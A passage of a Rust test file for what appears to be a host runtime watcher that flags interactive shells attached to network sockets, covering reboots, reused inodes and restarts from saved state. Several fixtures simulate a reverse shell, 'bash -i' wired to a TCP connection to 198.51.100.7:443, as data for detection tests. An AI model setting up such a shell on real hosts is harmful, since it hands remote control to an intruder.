    host.take()
}

#[test]
fn a_new_boot_forgets_processes_and_reports() {
    let mut events = booted(1, socket());
    let mut rebooted = Host::with_boot(2);
    rebooted.seed(1, 0, "/sbin/init", &["init"]);
    events.extend(rebooted.take());
    let mut watcher = RuntimeWatcher::new(&RuntimeWatcherConfig::default());
    let alerts = run(&mut watcher, &mut Lineage::new(1000), 1, &events);
    assert_eq!(alerts.len(), 1);
    let tables = watcher.state().tables;
    assert_eq!(tables[0].entries, 1);
    assert_eq!((tables[2].name, tables[2].entries), ("reports", 0));
}

#[test]
fn the_socket_of_another_boot_with_the_same_inode_folds_nothing() {
    let elsewhere = InetSocket { inode: socket().inode, ..tcp(42000, "198.51.100.7", 443) };
    let same = socket();
    let unknown = InetSocket { local_ip: None, local_port: None, peer_ip: None, peer_port: None, ..socket() };
    for second in [elsewhere, same, unknown] {
        let mut events = booted(1, socket());
        events.extend(booted(2, second));
        assert_eq!(alerts_with("", &events).len(), 2, "{second:?}");
    }
}

#[test]
fn an_inode_given_again_within_a_boot_folds_nothing() {
    let mut host = host();
    spawn(&mut host, 100, 200, &["bash", "-i"], &on_socket(socket()));
    host.exit(200);
    let again = InetSocket { inode: socket().inode, ..tcp(42000, "198.51.100.7", 443) };
    spawn(&mut host, 100, 201, &["bash", "-i"], &on_socket(again));
    assert_eq!(alerts(&mut host).len(), 2);
}

#[test]
fn a_restart_within_the_boot_repeats_no_alert_whether_the_connection_is_known_in_full_or_not() {
    let unknown = InetSocket { local_ip: None, local_port: None, ..socket() };
    for seen_again in [socket(), unknown] {
        let mut watcher = RuntimeWatcher::new(&RuntimeWatcherConfig::default());
        let mut lineage = Lineage::new(1000);
        let mut host = host();
        spawn(&mut host, 100, 200, &["bash", "-i"], &on_socket(socket()));
        assert_eq!(run(&mut watcher, &mut lineage, 1, &host.take()).len(), 1);

        let mut restarted = RuntimeWatcher::new(&RuntimeWatcherConfig::default());
        restarted.restore(&watcher.save()).expect("own bytes");
        host.seed_approximate_with(200, 100, "/usr/bin/bash", &["bash", "-i"], &on_socket(seen_again), None);
        // The same connection in another process, too.
        host.seed_with(202, 200, "/usr/bin/sh", &["sh"], &on_socket(seen_again), None);
        assert_eq!(run(&mut restarted, &mut lineage, 100, &host.take()), []);
    }
}

proptest::proptest! {
    #[test]
    fn foreign_bytes_never_panic(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..300)) {
        let mut watcher = RuntimeWatcher::new(&RuntimeWatcherConfig::default());
        let _ = watcher.restore(&bytes);
    }
}
